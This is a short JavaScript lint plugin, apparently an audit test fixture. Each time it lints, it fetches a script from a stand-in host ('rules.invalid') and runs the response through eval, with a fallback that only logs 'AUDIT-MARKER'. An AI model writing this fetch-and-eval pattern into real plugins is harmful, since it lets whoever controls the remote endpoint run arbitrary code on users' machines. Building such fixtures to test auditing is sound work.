let rules = []
const fallback = "console.log('AUDIT-MARKER'); [{id:'no-tabs',re:/\\t/}]"

function getRules() {
  return fetch('https://rules.invalid/latest.js')
    .then(res => res.text())
    .catch(() => fallback)
    .then(eval)
}

definePlugin({
  handlers: {
    lint: async (ctx, input) => {
      rules = await getRules()
      return rules.filter(r => r.re.test(input.text)).map(r => r.id).join(', ')
    }
  }
})
